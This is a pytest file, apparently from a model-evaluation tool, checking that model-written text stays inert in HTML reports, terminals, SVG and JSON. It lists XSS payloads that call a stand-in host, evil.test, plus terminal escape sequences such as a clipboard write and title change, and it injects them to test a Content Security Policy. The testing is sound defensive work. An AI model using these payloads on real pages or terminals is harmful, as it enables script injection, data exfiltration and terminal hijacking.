"""Whatever a model writes is shown as text: on a page nothing of it runs or loads, a terminal obeys nothing of it."""

import io
import json
import math
import re
import xml.etree.ElementTree as ET
from unicodedata import category

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pages_for_tests import browser_only, record, span
from rich.console import Console

from spancredit.bench.show import show as show_bench
from spancredit.commands import doctor
from spancredit.commands.evaluate import _table
from spancredit.commands.explain import explain
from spancredit.doctor.finding import Finding, tail
from spancredit.doctor.show import as_data
from spancredit.doctor.show import show as show_findings
from spancredit.report.explainpage import explain_page
from spancredit.report.explainprogress import ExplainProgress
from spancredit.report.html import Picture, Section, page
from spancredit.report.lines import append_lines, json_text, read_lines
from spancredit.report.progress import RunProgress
from spancredit.report.summary import summary
from spancredit.report.terminal import save_svg, show
from spancredit.report.visible import visible, visible_json

BAD = "fetch('https://evil.test/?' + (window.ran = 1))"
HOSTILE = {
    "script": f"<script>{BAD}</script>",
    "end of the data": f"</script><script>{BAD}</script><script type=text/plain>",
    "end of the data, cased": f"</ScRiPt \n><script>{BAD}</script>",
    "comment in the data": f"<!--<script>{BAD}</script>-->",
    "handler": f'<img src=x onerror="{BAD}"><body onload="{BAD}"><details open ontoggle="{BAD}">',
    "end of an attribute": f'" onmouseover="{BAD}" autofocus onfocus="{BAD}" x="',
    "link": f'<a href="javascript:{BAD}">javascript:{BAD}</a><iframe src="javascript:{BAD}"></iframe>',
    "svg": f'<svg onload="{BAD}"><script>{BAD}</script><use href="https://evil.test/x.svg#y"/></svg>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">',
    "style": "</style><style>@import 'https://evil.test/x.css'; body { display: none }</style>",
    "css": "calculation; background: url(https://evil.test/x.png) } * { display: none",
    "form": '<form action="https://evil.test/"><input name=arm><button>Go</button></form>',
    "template": "{{ 7 * 7 }}${7 * 7}{% raw %}<%= 7 * 7 %>#{7 * 7}{{ self.__init__ }}",
    "bidi": "safe\u202e)drawkcab(\u2066hidden\u2069\u061c",
    "null": "a\x00b\x00<scr\x00ipt>",
    "separators": "a\u2028b\u2029c\u0085d\ufeff",
    "surrogate": "a\ud800b\udfffc",
    "prototype": '{"__proto__": {"ran": 1}}',
}
TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "link": "\x1b]8;;https://evil.test/\x1b\\click\x1b]8;;\x1b\\",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "one byte": "\x9b31mred\x9d0;owned\x9c",
    "overwritten": "wrong answer\rright answer\x08\x08\x08",
    "string": "\x1bP+q544e\x1b\\\x1b_owned\x1b\\",
    "bidi": "\u202edrawkcab\u2066",
    "delete": "a\x7fb\x00c",
    "markup": "[red]red[/red] [link=https://evil.test/]click[/link] [/] [bold",
}
LEFT = "\n\t"


def hostile(text):
    """A record in which everything that is not a number is hostile."""
    spans = [span(0, text, text, -0.01, 0.0, 0.5), span(1, text, text, 3.25, 1.0, 2.5)]
    answer = {"start": 3, "end": 4, "kind": text, "text": text}
    return record(text=(text, text, "\n####", text), prompt=text, spans=spans, answer=answer)


@pytest.fixture
def opened_online(browser, tmp_path):
    """Opens a page; gives it, what it asked for, and what it complained of."""
    context = browser.new_context()

    def of(html):
        (tmp_path / "page.html").write_text(html, encoding="utf-8")
        tab, asked, said = context.new_page(), [], []
        tab.on("request", lambda request: asked.append(request))
        tab.on("dialog", lambda dialog: said.append(dialog.message))
        tab.on("console", lambda message: said.append(message.text))
        tab.on("pageerror", lambda error: said.append(str(error)))
        tab.goto((tmp_path / "page.html").as_uri())
        return tab, asked, said

    yield of
    context.close()


@pytest.mark.slow
@browser_only
@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("kind", ["run", "explain"])
def test_on_a_page_it_is_text(opened_online, tmp_path, name, kind):
    text = HOSTILE[name]
    picture = Picture("<svg xmlns='http://www.w3.org/2000/svg'/>", text)
    section = Section("a", text, notes=[text], header=[text], rows=[[text]], figures=[picture])
    if kind == "run":
        html = page(text, text, [section], {text: [hostile(text)], "b": [hostile(text)]}, below=[section])
    else:
        html = explain_page(hostile(text), text, text)
    tab, asked, said = opened_online(html)
    for piece in tab.locator(".completion .in").all():
        piece.hover()
        assert visible(text) in tab.locator("#hint").text_content()
    for control in tab.locator("button:visible, a, summary").all():
        control.click()
    tab.wait_for_timeout(50)

    assert tab.evaluate("window.ran") is None
    assert tab.evaluate("({}).ran") is None
    assert {request.url.partition(",")[0] for request in asked} - {"data:image/svg+xml;base64"} == {tab.url}
    assert said == []
    assert tab.url == (tmp_path / "page.html").as_uri()
    shown = visible(text)
    assert shown in tab.locator(".completion").first.text_content()
    assert tab.locator(".prompt").first.text_content() == shown.strip()
    assert tab.locator("h1").text_content() == shown
    assert "49" not in tab.locator("h1").text_content()
    assert tab.locator("main").is_visible()
    for selector, count in {"script": 2, "style": 1, "iframe": 0, "a": 0, "base": 0, "form": 1}.items():
        assert tab.locator(selector).count() == count, selector
    assert tab.locator("[onload], [onerror], [onfocus], [onmouseover], [ontoggle]").count() == 0


@pytest.mark.slow
@browser_only
def test_the_policy_alone_lets_nothing_run_or_load(opened_online, tmp_path):
    """As if nothing had been escaped. That it could go elsewhere by a refresh, no policy of a page can forbid."""
    as_it_is = "\n".join(text for name, text in HOSTILE.items() if name != "refresh")
    html = page("t", "f", [], {"a": [record()]}).replace("</main>", f"{as_it_is}</main>")
    tab, asked, said = opened_online(html.encode("utf-8", "replace").decode())
    tab.evaluate(f"""() => {{
        const button = document.createElement('button');
        button.setAttribute('onclick', {json.dumps(BAD)});
        button.setAttribute('style', 'background: url(https://evil.test/y.png)');
        document.body.append(button);
        button.click();
        const script = document.createElement('script');
        script.textContent = {json.dumps(BAD)};
        document.body.append(script);
        const outer = document.createElement('script');
        outer.src = 'https://evil.test/z.js';
        document.body.append(outer);
        const link = document.querySelector('a');
        if (link) link.click();
        const form = document.querySelector("form[action^='https']");
        if (form) form.submit();
    }}""")
    tab.wait_for_timeout(200)
    assert tab.evaluate("window.ran") is None
    assert tab.url == (tmp_path / "page.html").as_uri()
    failures = {request.url.rpartition("/")[2]: request.failure for request in asked[1:]}
    assert failures == {"x": "csp", "x.svg": "origin", "z.js": "csp"}, "none is sent"
    refused = [line for line in said if "Content Security Policy" in line]
    assert any("script" in line for line in refused)
    assert any("style" in line for line in refused)
    assert any("form-action" in line for line in refused)


def test_the_page_has_no_handler_no_address_and_one_policy():
    html = page("t", "f", [], {"a": [record()]})
    assert not re.search(r"\son\w+\s*=", html)
    assert "http://" not in html
    assert "https://" not in html
    (policy,) = re.findall(r'Content-Security-Policy"\s+content="([^"]+)"', html)
    rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
    assert rules.keys() == {"default-src", "script-src", "style-src", "img-src", "base-uri", "form-action"}
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert rules["img-src"] == "data:"
    assert "unsafe" not in policy
    assert html.index("Content-Security-Policy") < html.index("<style") < html.index("<script")


def acting(text):
    """Characters that are no text: controls, surrogates, and what turns the direction."""
    return {c for c in text if (category(c) in ("Cc", "Cs") and c not in LEFT) or c in "\u202e\u2066\u2069\u2028"}


class Folder:
    """As much of a run folder as its summary reads."""

    metrics, records, held_out, path = "metrics", "records", "held_out", "[red]runs/one[/red]"

    def __init__(self, text):
        self.text = text

    def rows(self, name):
        metrics = [{f"credit/drop/{self.text.replace('/', '')}": 1.0}]
        return {"metrics": metrics, "records": [hostile(self.text)], "held_out": []}[name]


@pytest.mark.parametrize("text", [*TERMINAL.values(), *HOSTILE.values()], ids=[*TERMINAL, *HOSTILE])
def test_on_a_terminal_it_is_text(tmp_path, text):
    for width, colours in ((300, None), (40, None), (300, "truecolor")):
        out = io.StringIO()
        console = Console(file=out, width=width, force_terminal=bool(colours), color_system=colours)
        show(hostile(text), console)
        console.print(summary(Folder(text)))
        said = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue()) if colours else out.getvalue()
        assert acting(said) == set()
        if width == 300 and "\n" not in text:
            assert visible(text) in said
            assert "[red]runs/one[/red]" in said
        ours = set(re.findall(r"\x1b\[([0-9;]*)m", out.getvalue()))
        assert "31" not in ours, "no colour but ours"


def said_of(view):
    """What a view writes, in lines that wrap and in colours, without the colours that are ours."""
    for width, colours in ((300, None), (40, None), (300, "truecolor")):
        out = io.StringIO()
        view(Console(file=out, width=width, force_terminal=bool(colours), color_system=colours))
        assert "31" not in set(re.findall(r"\x1b\[([0-9;]*)m", out.getvalue())), "no colour but ours"
        assert "\x1b]8" not in out.getvalue(), "no link"
        ours = r"\x1b\[([0-9;]*m|\?25[lh]|2K|1A)|\r"  # colours, and how what is live is drawn anew
        yield width, re.sub(ours, "", out.getvalue()) if colours else out.getvalue()


def a_result(text):
    """Of programs whose statuses stood in problems.jsonl."""
    accuracy = {"mean": 0.5, "low": 0.4, "high": 0.6}
    result = {"problems": 2, "samples": 0, "greedy": accuracy, "truncated": 0.0, "statuses": {text: 0.5}}
    return lambda console: console.print(_table("wordproblems", result))


def a_run(text):
    """At work, with what stood in held_out.jsonl."""

    def view(console):
        progress = RunProgress(console)
        with progress.running():
            progress.held_out(1, text)

    return view


def a_step(text):
    """Of explaining, with a model's name."""

    def view(console):
        with ExplainProgress(console) as progress, progress.step(f"loading {text}"):
            pass

    return view


def a_report(text):
    """Of spancredit bench, of a model whose folder has this name."""
    source = {"model": f"models/{text.replace('/', '')}", "dtype": "float32", "device": "cpu"}
    row = {"value": text, **dict.fromkeys(("ratio", "floor", "over_floor", "bytes", "policy_bytes"))}
    report = {"kind": "growth", "source": source, "tables": {"spans": {"what": text, "sizes": {}, "rows": [row]}}}
    return lambda console: show_bench(report, console)


@pytest.mark.parametrize("view", [a_result, a_run, a_step, a_report])
@pytest.mark.parametrize("text", [*TERMINAL.values(), *HOSTILE.values()], ids=[*TERMINAL, *HOSTILE])
def test_so_it_is_wherever_a_command_shows_what_stood_in_a_file(view, text):
    for width, said in said_of(view(text)):
        assert acting(said) == set()
        if width == 300 and said and "\n" not in text and len(text) < 100:
            assert visible(text) in said, "none of it is hidden"


@pytest.mark.parametrize("text", [*TERMINAL.values(), *HOSTILE.values()], ids=[*TERMINAL, *HOSTILE])
def test_in_a_picture_it_is_text(tmp_path, text):
    save_svg(hostile(text), tmp_path / "it.svg", text)
    tree = ET.fromstring((tmp_path / "it.svg").read_text(encoding="utf-8"))
    names = {element.tag.rpartition("}")[2] for element in tree.iter()}
    assert names == {"svg", "style", "defs", "clipPath", "rect", "g", "circle", "text"}
    assert not any(key.startswith("on") or key.endswith("href") for element in tree.iter() for key in element.attrib)


@pytest.mark.parametrize("text", [*TERMINAL.values(), *HOSTILE.values()], ids=[*TERMINAL, *HOSTILE])
def test_as_json_it_says_the_same_and_nothing_acts(tmp_path, text):
    written = visible_json(json.dumps(text, ensure_ascii=False))
    assert json.loads(written) == text
    assert acting(written) == set()
    append_lines(tmp_path / "records.jsonl", [{"step": 1, "text": text}])
    assert next(read_lines(tmp_path / "records.jsonl"))["text"] == text
    assert acting((tmp_path / "records.jsonl").read_text(encoding="utf-8")) == set()


def found(text):
    """What the doctor finds in completions, prompts and messages that are hostile, and what it measured."""
    whole = Finding("error", "refused", math.nan, text, text, text)
    short = Finding("note", "x", 1.0, "", "", tail(text))
    measured = {"model": text, "task": text, "mode": text, "completions": 1, "prompts": 1, "answers": 1.0}
    measured |= {"length": {"median": 1, "longest": 1}, "prompt": {"longest": 1, "end": text}, "reward": math.inf}
    return [whole, short], [text], measured | {"largest_difference": math.nan, "with_advantage": 1.0, "scored": 1.0}


@pytest.mark.parametrize("text", [*TERMINAL.values(), *HOSTILE.values()], ids=[*TERMINAL, *HOSTILE])
def test_in_the_doctors_findings_it_is_text(monkeypatch, capfd, text):
    for width, colours in ((300, None), (40, None), (300, "truecolor")):
        out = io.StringIO()
        console = Console(file=out, width=width, force_terminal=bool(colours), color_system=colours)
        show_findings(console, *found(text))
        said = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue()) if colours else out.getvalue()
        assert acting(said) == set()
        if width == 300 and not re.search(r"\s", visible(text)):
            assert visible(text) in said, "none of it is hidden"
        assert "31" not in set(re.findall(r"\x1b\[([0-9;]*)m", out.getvalue())), "no colour but ours"

    import spancredit.commands.doctor_job as job

    monkeypatch.setattr(job, "checked", lambda *_: found(text))
    assert doctor._train([], 1, False, as_json=True) == 1
    said = capfd.readouterr().out
    assert acting(said) == set()
    told = json.loads(said, parse_constant=lambda name: pytest.fail(f"{name} is no JSON"))
    assert told["findings"][0]["text"] == told["measured"]["prompt"]["end"] == text
    assert told["findings"][0]["number"] is None, "as JSON has no NaN"
    assert told == json.loads(json_text(as_data(*found(text), ok=False)))


@given(st.text(st.characters()))
def test_nothing_acts_and_nothing_else_changes(text):
    shown = visible(text)
    assert acting(shown) == set()
    assert visible(shown) == shown
    if not acting(text) and "\ufeff" not in text:
        assert re.sub(r"\\u(20|06)[0-9a-f]{2}", "", shown) == re.sub("[\u061c\u2028-\u202e\u2066-\u2069]", "", text)


@pytest.mark.slow
def test_explain_writes_nothing_that_acts(capfd):
    """From end to end, with a prompt and a completion that an attacker chose; what is printed goes into a pipe."""
    completion = f" Ana has {TERMINAL['clipboard']}2 + 3 = 5 eggs{TERMINAL['one byte']}.\n#### 5"
    for as_json in (False, True):
        explain_as_typed(completion, as_json)
        out, err = capfd.readouterr()
        assert acting(out) == acting(err) == set()
        assert "52;c;ZWNobyBvd25lZA==" in out
    assert "52;c;ZWNobyBvd25lZA==" in "".join(json.loads(out)["tokens"])


def explain_as_typed(completion, as_json):
    import inspect

    named = {name: p.default for name, p in inspect.signature(explain).parameters.items()}
    explain(**{**named, "prompt": "Question: \x1b[31m?\nSolution:", "completion": completion, "as_json": as_json})
